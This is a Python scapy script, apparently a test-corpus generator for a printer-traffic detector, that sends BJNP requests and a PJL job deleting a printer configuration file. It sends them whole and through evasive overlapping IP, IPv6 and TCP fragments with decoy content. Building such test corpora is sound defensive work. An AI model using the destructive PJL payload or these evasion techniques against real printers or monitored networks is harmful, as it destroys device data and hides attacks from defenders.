#!/usr/bin/python3
"""Sends one attack of the evasion corpus, whole or evasively, with scapy. Used only by
tools/record_evasion.sh, inside its network namespaces, against a printer namespace running
tools/sink9100.py and tools/bjnp_responder.py (Linux's own IP and TCP stacks take the bytes).

    evasion_send.py CASE PRINTER_ADDR

Cases (each sends to PRINTER_ADDR only, a bounded number of packets):
  bjnp-whole       a BJNP get-identity request (UDP 8611) in one datagram
  bjnp-overlap     the same request in three IP fragments, plus a decoy fragment inside the
                   second that says "discover" instead: Linux keeps the bytes it already holds
  bjnp-incomplete  the first two fragments of a get-identity request; the last never comes
  bjnp6-whole      the get-identity request over IPv6 (PRINTER_ADDR an IPv6 address)
  bjnp6-overlap    the same in three IPv6 fragments (fragment header) plus the decoy
  pjl-whole        a raw job (TCP 9100) deleting a file through PJL, in one segment
  pjl-ipfrag       the same segment cut into 8-byte IP fragments (the first ends inside the
                   TCP header)
  pjl-overlap      the same job in two segments, the second first, then a copy of the
                   second that says something harmless (both wait behind the hole: Linux keeps
                   the first copy queued), then the first

TCP cases do their own handshake: the caller drops the resets this host's kernel would send
for a connection it does not know. Needs Debian's python3-scapy; run as root.
"""

import random
import struct
import sys
import time

from scapy.all import (IP, IPv6, IPv6ExtHdrFragment, TCP, UDP, Raw, conf,  # type: ignore
                       fragment, send, sr1)

conf.verb = 0

UEL = b"\x1b%-12345X"
REAL_LINE = b'@PJL FSDELETE NAME="0:\\webServer\\config\\device.cfg"'
# Same length: a resend at the same sequence numbers, saying something harmless.
DECOY_LINE = b"@PJL INFO ID".ljust(len(REAL_LINE))
JOB_REAL = UEL + b"@PJL\r\n" + REAL_LINE + b"\r\n" + UEL
JOB_DECOY = UEL + b"@PJL\r\n" + DECOY_LINE + b"\r\n" + UEL
assert len(JOB_REAL) == len(JOB_DECOY)


def bjnp(cmd: int, seq: int) -> bytes:
    # magic, dev_type 1 (printer command), command, reserved, seq, session, payload_len
    return struct.pack(">4sBBHHHI", b"BJNP", 1, cmd, 0, seq, 0, 0)


def udp_bytes(sport: int, dport: int, payload: bytes) -> bytes:
    # checksum 0: "not computed", valid for UDP over IPv4, and the same in every fragment
    return struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload


def bjnp_case(dst: str, case: str) -> None:
    sport = random.randrange(40000, 60000)
    ip_id = random.randrange(1, 65535)
    if case == "bjnp-whole":
        send(IP(dst=dst) / UDP(sport=sport, dport=8611) / Raw(bjnp(0x30, 1)))
        return
    body = udp_bytes(sport, 8611, bjnp(0x30, 1))
    decoy = udp_bytes(sport, 8611, bjnp(0x01, 1))
    frags = [
        IP(dst=dst, id=ip_id, proto=17, flags="MF", frag=0) / Raw(body[0:8]),
        IP(dst=dst, id=ip_id, proto=17, flags="MF", frag=1) / Raw(body[8:16]),
    ]
    if case == "bjnp-overlap":
        frags.append(IP(dst=dst, id=ip_id, proto=17, flags="MF", frag=1) / Raw(decoy[8:16]))
        frags.append(IP(dst=dst, id=ip_id, proto=17, flags=0, frag=2) / Raw(body[16:24]))
    for f in frags:
        send(f)
        time.sleep(0.01)


def bjnp6_case(dst: str, case: str) -> None:
    sport = random.randrange(40000, 60000)
    if case == "bjnp6-whole":
        send(IPv6(dst=dst) / UDP(sport=sport, dport=8611) / Raw(bjnp(0x30, 1)))
        return
    # UDP over IPv6 must carry a checksum: computed over the whole datagram, once
    whole = bytes(IPv6(dst=dst) / UDP(sport=sport, dport=8611) / Raw(bjnp(0x30, 1)))[40:]
    decoy = bytearray(whole)
    decoy[8 + 5] = 0x01   # the command byte: "discover" instead of get-identity
    fid = random.randrange(1, 2**32)

    def frag(off: int, more: bool, data: bytes):
        return (IPv6(dst=dst, nh=44) /
                IPv6ExtHdrFragment(nh=17, offset=off // 8, m=int(more), id=fid) / Raw(data))

    for f in (frag(0, True, whole[0:8]), frag(8, True, whole[8:16]),
              frag(8, True, bytes(decoy[8:16])), frag(16, False, whole[16:24])):
        send(f)
        time.sleep(0.01)


def tcp_case(dst: str, case: str) -> None:
    sport = random.randrange(40000, 60000)
    isn = random.randrange(1, 2**31)
    ip = IP(dst=dst)
    synack = sr1(ip / TCP(sport=sport, dport=9100, flags="S", seq=isn), timeout=3)
    if synack is None or not synack.haslayer(TCP):
        sys.exit("no SYN-ACK from the printer")
    ack = synack[TCP].seq + 1
    send(ip / TCP(sport=sport, dport=9100, flags="A", seq=isn + 1, ack=ack))
    def seg(at: int, payload: bytes):
        return ip / TCP(sport=sport, dport=9100, flags="PA", seq=isn + 1 + at, ack=ack) / Raw(payload)

    if case == "pjl-ipfrag":
        for f in fragment(seg(0, JOB_REAL), fragsize=8):
            send(f)
            time.sleep(0.005)
    elif case == "pjl-overlap":
        cut = JOB_REAL.index(b"FSDELETE")
        for at, payload in ((cut, JOB_REAL[cut:]), (cut, JOB_DECOY[cut:]), (0, JOB_REAL[:cut])):
            send(seg(at, payload))
            time.sleep(0.05)
    else:
        send(seg(0, JOB_REAL))
    time.sleep(0.2)
    end = isn + 1 + len(JOB_REAL)
    # half-close; the sink reads to EOF and closes its side: acknowledge its FIN
    fin = sr1(ip / TCP(sport=sport, dport=9100, flags="FA", seq=end, ack=ack), timeout=3)
    if fin is not None and fin.haslayer(TCP) and fin[TCP].flags & 0x01:
        send(ip / TCP(sport=sport, dport=9100, flags="A", seq=end + 1, ack=fin[TCP].seq + 1))
    else:
        time.sleep(0.5)


def main() -> int:
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    case, dst = sys.argv[1], sys.argv[2]
    if case.startswith("bjnp-"):
        bjnp_case(dst, case)
    elif case.startswith("bjnp6-"):
        bjnp6_case(dst, case)
    elif case.startswith("pjl-"):
        tcp_case(dst, case)
    else:
        sys.exit(f"unknown case {case}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
